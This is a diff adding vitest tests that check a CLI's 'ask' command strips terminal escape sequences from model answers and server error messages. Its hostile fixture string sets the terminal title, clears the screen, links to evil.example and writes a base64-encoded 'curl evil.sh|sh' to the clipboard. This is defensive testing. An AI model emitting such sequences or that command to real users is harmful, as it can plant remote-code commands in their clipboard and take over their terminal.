@@ -1,5 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { spawn } from 'node:child_process';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { build } from 'esbuild';
@@ -318,5 +320,41 @@ describe('singularity gate-score', () => {
     const r = await run(['gate-score', '--data', data, '--out', join(dir, 'x.jsonl')]);
     expect(r.code).toBe(1);
     expect(r.stderr).toContain(`${data}:1: expected {"prompt": "...", "local_answer": "..."}`);
+  });
+});
+
+describe('singularity ask on a terminal', () => {
+  const ESC = '\x1b';
+  const BEL = '\x07';
+  // What a terminal would obey: any ESC, BEL, or 8-bit C1 control.
+  const CONTROL = /[\x07\x1b\x80-\x9f]/;
+
+  it('writes a model answer without its terminal control sequences (title, clipboard, link, clear screen)', async () => {
+    const hostile = `Done.${ESC}]0;pwned${BEL} Copied:${ESC}]52;c;Y3VybCBldmlsLnNofHNo${BEL} see ${ESC}]8;;https://evil.example${ESC}\\docs${ESC}]8;;${ESC}\\ ${ESC}[2J${ESC}[Hend \x9b2J`;
+    const evil = await startFakeOllama({ models: ['llama3.2:latest'], reply: () => hostile });
+    try {
+      const r = await run(['ask', '--node', evil.url, 'hi']);
+      expect(r.code).toBe(0);
+      expect(r.stdout).toBe('Done. Copied: see docs end \n');
+      expect(r.stderr).not.toMatch(CONTROL);
+    } finally {
+      await evil.close();
+    }
+  });
+
+  it('writes a server\'s error text without its terminal control sequences', async () => {
+    const body = JSON.stringify({ error: { message: `${ESC}]0;owned${BEL}${ESC}[2Jover capacity`, type: 'server_error' } });
+    const server = createServer((_req, res) => res.writeHead(500, { 'content-type': 'application/json' }).end(body));
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    try {
+      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
+      const r = await run(['ask', '--cloud-base', base, '--cloud-model', 'gpt-test', '--route', 'cloud', 'hi'], { SINGULARITY_CLOUD_API_KEY: 'sk-cli' });
+      expect(r.code).toBe(1);
+      expect(r.stderr).toContain('over capacity');
+      expect(r.stderr).not.toMatch(CONTROL);
+    } finally {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    }
   });
 });
